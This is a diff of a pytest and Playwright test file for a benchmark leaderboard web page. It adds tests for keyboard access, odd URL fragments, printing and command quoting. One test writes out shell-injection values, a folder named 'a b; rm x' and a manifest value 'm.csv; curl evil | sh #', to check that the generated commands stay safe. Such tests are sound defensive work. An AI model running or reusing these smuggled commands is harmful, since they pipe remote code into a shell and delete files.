@@ -6,6 +6,8 @@ import csv
 import io
 import json
 import re
+import shlex
+import shutil
 from pathlib import Path
 
 import pytest
@@ -42,7 +44,7 @@ def page(browser, site):
 
 
 def names(page) -> list[str]:
-    return page.locator("tr.row td.name button").all_text_contents()
+    return page.locator("tr.row th.name button").all_text_contents()
 
 
 def choose(page, label: str, value: str) -> None:
@@ -51,6 +53,32 @@ def choose(page, label: str, value: str) -> None:
 
 def data_of(site: Path) -> dict:
     return json.loads(re.search(r'id="data">(.*?)</script>', site.read_text(encoding="utf-8"))[1])
+
+
+def test_a_command_to_copy_runs_nothing_else(results, tmp_path):
+    shutil.copytree(results, tmp_path / "a b; rm x")
+    edited(tmp_path / "a b; rm x", lambda record: record["dataset"].update(manifest="m.csv; curl evil | sh #"))
+    method = leaderboard.content([tmp_path / "a b; rm x"])["boards"][0]["methods"][0]
+    words = shlex.split(method["verify"])
+    assert words[:4] == ["cellfeat", "bench", "verify", "a b; rm x"]
+    assert words[5:] == ["--data", "m.csv; curl evil | sh #"]
+    assert shlex.split(method["run"])[-1] == "m.csv; curl evil | sh #"
+
+
+def test_in_few_shot_a_row_with_fewer_cells_changes_no_other(results, site, tmp_path):
+    import pyarrow.parquet as pq
+
+    shutil.copytree(results, tmp_path / "own")
+    made_up_results.write(tmp_path / "theirs", (60, 80, 120), seeds=2, names=["few"], classifiers=["lr"])
+    path = tmp_path / "theirs" / "predictions" / "0.parquet"
+    table = pq.read_table(path)
+    pq.write_table(table.filter([int(id[-5:]) % 3 > 0 for id in table["id"].to_pylist()]), path)
+    for folder in ("own", "theirs"):
+        edited(tmp_path / folder, lambda record: record.update(shots=5))
+    [board] = leaderboard.content([tmp_path / "own", tmp_path / "theirs"])["boards"]
+    alone = data_of(site)["boards"][0]["methods"]
+    assert [one["scores"] for one in board["methods"][:6]] == [one["scores"] for one in alone]
+    assert board["methods"][6]["remarks"]
 
 
 def edited(folder: Path, change) -> None:
@@ -71,7 +99,7 @@ def test_the_page_says_what_the_list_says(results, site):
     methods = [board["methods"][i] for i in table["method"]]
     listed = [line[:3] for line in ranking.lines()[: len(methods)]]
     assert [name for _, name, _ in listed] == [f"{one['row']}/{one['classifier']}" for one in methods]
-    assert [group for group, _, _ in listed] == [str(group) for group in table["group"]] == list("112233")
+    assert [group for group, _, _ in listed] == [str(group) for group in table["group"]] == list("112223")
     for place, (_, _, figures) in enumerate(listed):
         shown = [table[key][place] / 100 for key in ("mean", "low", "high")]
         assert [float(text) for text in re.findall(r"[\d.]+", figures)] == pytest.approx(shown, abs=0.06)
@@ -116,12 +144,12 @@ def test_equal_records_give_an_equal_page_and_other_ones_another_digest(results,
     assert before in site.read_text(encoding="utf-8")
 
 
-def test_rows_of_two_folders_stand_in_one_table_and_say_whose_they_are(results, tmp_path):
-    made_up_results.write(tmp_path / "theirs", (60, 80, 120), seeds=2, names=["good"], classifiers=["lr"])
-    data = leaderboard.content([results, tmp_path / "theirs"])
-    [board] = data["boards"]
-    assert len(board["methods"]) == 7
-    assert {method["submission"] for method in board["methods"]} == {"own", "theirs"}
+def test_rows_of_several_folders_stand_in_one_table_and_those_of_the_first_keep_their_names(results, tmp_path):
+    for folder in ("x/theirs", "y/theirs"):
+        made_up_results.write(tmp_path / folder, (60, 80, 120), seeds=2, names=["good"], classifiers=["lr"])
+    [board] = leaderboard.content([results, tmp_path / "x" / "theirs", tmp_path / "y" / "theirs"])["boards"]
+    assert board["name"] == "transfers"
+    assert [method["submission"] for method in board["methods"]] == [""] * 6 + ["theirs", "theirs-2"]
 
 
 def test_folders_that_know_a_cell_otherwise_cannot_stand_in_one_table(results, tmp_path):
@@ -136,11 +164,16 @@ def test_results_of_other_data_or_settings_stand_in_tables_of_their_own(results,
     made_up_results.write(tmp_path / "theirs", (60, 80, 120), seeds=2, names=["good"])
     edited(tmp_path / "theirs", lambda record: record["dataset"].update(digest="1" * 64))
     boards = leaderboard.content([results, tmp_path / "theirs"])["boards"]
-    assert [board["name"] for board in boards] == ["transfers (00000000)", "transfers (11111111)"]
+    assert [board["name"] for board in boards] == ["transfers", "transfers (11111111)"]
     edited(tmp_path / "theirs", lambda record: record["dataset"].update(digest="0" * 64))
-    edited(tmp_path / "theirs", lambda record: record["recipe"]["protocol"].update(folds=3))
-    boards = leaderboard.content([results, tmp_path / "theirs"])["boards"]
-    assert [board["name"] for board in boards] == ["transfers (00000000)", "transfers (00000000) · 2"]
+    others = []
+    for folds in (3, 4):
+        edited(tmp_path / "theirs", lambda record, folds=folds: record["recipe"]["protocol"].update(folds=folds))
+        shutil.copytree(tmp_path / "theirs", tmp_path / f"folds-{folds}")
+        others.append(tmp_path / f"folds-{folds}")
+    boards = leaderboard.content([results, *others])["boards"]
+    names = [board["name"] for board in boards]
+    assert names == ["transfers", "transfers (00000000)", "transfers (00000000) · 2"], "each can be chosen"
 
 
 def test_a_row_that_did_not_answer_every_cell_is_not_ranked_and_changes_no_other(results, site, tmp_path):
@@ -177,7 +210,7 @@ def test_what_is_no_results_folder_is_told(tmp_path, path, text):
 
 def test_groups_are_shown_as_groups_and_sorting_goes_both_ways_and_back(page):
     table = page.page
-    assert table.locator("td.group").all_text_contents() == ["1", "1", "2", "2", "3", "3"]
+    assert table.locator("td.group").all_text_contents() == list("112223")
     order = names(table)
     assert {name.split("/")[0] for name in order[:2]} == {"good"}
     heading = table.get_by_role("button", name="row/classifier")
@@ -189,7 +222,7 @@ def test_groups_are_shown_as_groups_and_sorting_goes_both_ways_and_back(page):
     heading.click()
     assert names(table) == order
     table.get_by_role("button", name=re.compile("lab-a → lab-b")).click()
-    values = [float(text) for text in table.locator("tr.row td:nth-child(5)").all_text_contents()]
+    values = [float(text) for text in table.locator("tr.row > :nth-child(5)").all_text_contents()]
     assert values == sorted(values, reverse=True)
 
 
@@ -289,6 +322,53 @@ def test_hostile_names_stay_names(page):
     assert page.page.locator("img").count() == 0
 
 
+def test_skipping_to_the_content_loses_nothing(browser, site):
+    with opened(browser, site, "#metric=accuracy&classifier=lr&row=good%2Flr") as found:
+        found.page.keyboard.press("Tab")
+        found.page.keyboard.press("Enter")
+        found.page.wait_for_timeout(100)
+        assert found.page.locator("tr.unfolded").count() == 1
+        assert "row=good%2Flr" in found.page.evaluate("location.hash")
+        assert found.problems == []
+
+
+@pytest.mark.parametrize(
+    "fragment",
+    ["#view=matrix&row=good%2Flr", "#view=time&row=good%2Flr", "#sort=__proto__", "#main", "#search=constructor"],
+)
+def test_an_odd_address_breaks_nothing(browser, site, fragment):
+    with opened(browser, site, fragment) as found:
+        assert found.problems == []
+        found.page.get_by_role("button", name="Table", exact=True).click()
+        assert len(names(found.page)) == (0 if "search" in fragment else 6)
+        assert (found.page.get_by_text("No row matches").count() == 1) == ("search" in fragment)
+
+
+def test_a_column_that_goes_takes_its_order_with_it(page):
+    table = page.page
+    table.get_by_role("button", name=re.compile("lab-c → lab-b")).click()
+    assert "sort=" in table.evaluate("location.hash")
+    choose(table, "Target", "lab-a")
+    assert "sort=" not in table.evaluate("location.hash")
+    assert table.locator("td.group").all_text_contents() == sorted(table.locator("td.group").all_text_contents())
+
+
+def test_more_rows_are_reached_by_keyboard_and_every_row_has_a_heading(browser, tmp_path):
+    made_up_results.write(tmp_path / "r", (30, 40), rows=103, seeds=1, classifiers=["lr"])
+    site, _, _ = leaderboard.write_site([tmp_path / "r"], tmp_path / "site")
+    with opened(browser, site) as found:
+        found.page.get_by_role("button", name="Show 3 more").press("Enter")
+        assert len(names(found.page)) == found.page.locator("tr.row th[scope=row]").count() == 103
+        assert found.page.evaluate("document.activeElement.closest('tr').rowIndex") == 101
+
+
+def test_what_is_printed_has_its_names_and_headings(page):
+    page.page.emulate_media(media="print")
+    assert page.page.get_by_text("good/lr").is_visible()
+    assert page.page.get_by_text("row/classifier").is_visible()
+    assert not page.page.locator("#controls").is_visible()
+
+
 @pytest.mark.parametrize("theme", ["light", "dark"])
 @pytest.mark.parametrize("size", [DESK, PHONE], ids=["desk", "phone"])
 def test_every_view_is_accessible_and_fits_the_window(browser, site, theme, size):
@@ -305,7 +385,7 @@ def test_the_keyboard_reaches_sorting_and_unfolding_and_keeps_its_place(page):
     table.get_by_role("button", name="row/classifier").focus()
     table.keyboard.press("Enter")
     assert table.evaluate("document.activeElement.dataset.sort") == "name"
-    table.locator("tr.row td.name button").first.focus()
+    table.locator("tr.row th.name button").first.focus()
     table.keyboard.press("Enter")
     assert table.evaluate("document.activeElement.getAttribute('aria-expanded')") == "true"
 
@@ -317,11 +397,14 @@ def test_the_matrix_shows_the_best_or_one_row(page, site):
     assert cells.count() == 6
     assert "good/" in cells.first.text_content()
     choose(table, "Row", "middle/lr")
+    assert "row=middle%2Flr" in table.evaluate("location.hash")
     [board] = data_of(site)["boards"]
     [middle] = [one for one in board["methods"] if (one["row"], one["classifier"]) == ("middle", "lr")]
     places = [f"{one['source']} → {one['target']}" for one in board["transfers"]]
     expected = middle["scores"]["balanced_accuracy"][places.index("lab-a → lab-b")]
     assert cells.first.locator("strong").text_content() == f"{expected / 100:.1f}"
+    choose(table, "Source", "lab-b")
+    assert cells.count() == 2
 
 
 def test_time_and_quality_has_a_dot_for_every_row(page):
